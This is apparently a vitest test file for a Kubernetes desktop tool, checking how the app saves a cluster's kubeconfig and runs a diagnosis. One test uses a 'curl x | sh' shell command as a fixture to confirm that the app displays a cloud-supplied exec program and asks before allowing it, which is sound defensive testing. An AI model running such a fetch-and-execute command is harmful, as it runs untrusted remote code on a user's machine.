import { screen, waitFor } from "@testing-library/react";
import { describe, expect, it } from "vitest";
import { clusterId } from "../../testing/fake/clusters";
import { expectAccessible, renderApp } from "../../testing/render";

const open = (answers: Parameters<typeof renderApp>[1] = {}): ReturnType<typeof renderApp> =>
  renderApp({ name: "cluster", clusterId: clusterId("rg-ml-prod", "scoring-01") }, answers);

describe("kubeconfig of a cluster", () => {
  it("is added to kubectl's default file by default", async () => {
    const { user, host } = open();
    await user.click(await screen.findByTestId("save-kubeconfig"));
    const saved = await screen.findByTestId("kubeconfig-saved");
    expect(saved.textContent).toContain("Added to /home/me/.kube/config.");
    const asked = host.calls.findLast(({ command }) => command === "save_kubeconfig")?.args;
    expect(asked).toMatchObject({ admin: false, file: null, merge: true, setCurrent: false });
    await expectAccessible();
  });

  it("names the file that kubectl writes to", async () => {
    open({ app_info: () => ({ version: "1", keychain: true, keychainProblem: null, startAccount: null, kubeconfig: "/home/me/team.yaml" }) });
    const path = await screen.findByTestId("kubeconfig-path");
    await waitFor(() => expect((path as HTMLInputElement).value).toBe("/home/me/team.yaml"));
  });

  it("shows which program signs in", async () => {
    const { user } = open({
      save_kubeconfig: () => ({
        outcome: "saved",
        path: "/k",
        context: "scoring-01",
        execCommand: "kubelogin",
        merged: false,
        replaced: true,
        replacedContexts: ["prod", "test"],
        backup: "/k.bak",
        tightened: true,
      }),
    });
    await user.click(await screen.findByTestId("kubeconfig-admin"));
    await user.click(screen.getByTestId("save-kubeconfig"));
    const saved = await screen.findByTestId("kubeconfig-saved");
    expect(saved.textContent).toContain("kubelogin");
    expect(saved.textContent).toContain("now only you can");
    expect(saved.textContent).toContain("Replaced: prod, test.");
    expect(saved.textContent).toContain("/k.bak");
  });

  it("never replaces kubectl's default file", async () => {
    const { user, host } = open();
    const merge = await screen.findByTestId("kubeconfig-merge");
    expect(merge).toHaveProperty("disabled", true);
    expect(merge).toHaveProperty("checked", true);
    await user.click(screen.getByTestId("kubeconfig-choose"));
    await screen.findByDisplayValue("team.yaml");
    await user.click(merge);
    expect(merge).toHaveProperty("checked", false);
    await user.click(screen.getByTestId("kubeconfig-own"));
    expect(merge).toHaveProperty("checked", true);
    await user.click(screen.getByTestId("save-kubeconfig"));
    await screen.findByTestId("kubeconfig-saved");
    expect(host.calls.findLast(({ command }) => command === "save_kubeconfig")?.args).toMatchObject({ file: null, merge: true });
  });

  it("refers to a chosen file by its ID", async () => {
    const { user, host } = open();
    await user.click(await screen.findByTestId("kubeconfig-choose"));
    await screen.findByDisplayValue("team.yaml");
    await user.click(screen.getByTestId("save-kubeconfig"));
    await screen.findByTestId("kubeconfig-saved");
    expect(host.calls.findLast(({ command }) => command === "save_kubeconfig")?.args).toMatchObject({ file: "f-1" });
  });

  it("shows a program named by Azure before kubectl may run it", async () => {
    const program = { command: "/bin/sh", args: ["-c", "curl x | sh"], env: [], shown: '"/bin/sh" "-c" "curl x | sh"' };
    const { user, host } = open({
      save_kubeconfig: ({ allowedProgram }) =>
        allowedProgram === null
          ? { outcome: "needs_confirmation", program }
          : {
              outcome: "saved",
              path: "/k",
              context: "scoring-01",
              execCommand: "/bin/sh",
              merged: true,
              replaced: false,
              replacedContexts: [],
              backup: null,
              tightened: false,
            },
    });
    await user.click(await screen.findByTestId("save-kubeconfig"));
    expect((await screen.findByTestId("kubeconfig-command")).textContent).toBe(program.shown);
    expect(screen.queryByTestId("kubeconfig-saved")).toBeNull();
    await expectAccessible();
    await user.click(screen.getByTestId("kubeconfig-refuse"));
    expect(screen.queryByTestId("kubeconfig-program")).toBeNull();
    await user.click(screen.getByTestId("save-kubeconfig"));
    await user.click(await screen.findByTestId("kubeconfig-allow"));
    await screen.findByTestId("kubeconfig-saved");
    const asked = host.calls.filter(({ command }) => command === "save_kubeconfig").map(({ args }) => args);
    expect(asked).toHaveLength(3);
    expect(asked.at(-1)).toMatchObject({ allowedProgram: program });
  });
});

describe("diagnosis of a cluster", () => {
  it("runs on request", async () => {
    const { user, host } = open();
    await user.click(await screen.findByTestId("diagnose"));
    await screen.findByTestId("diagnosis-report");
    expect(host.calls.filter(({ command }) => command === "diagnose")).toHaveLength(1);
  });
});
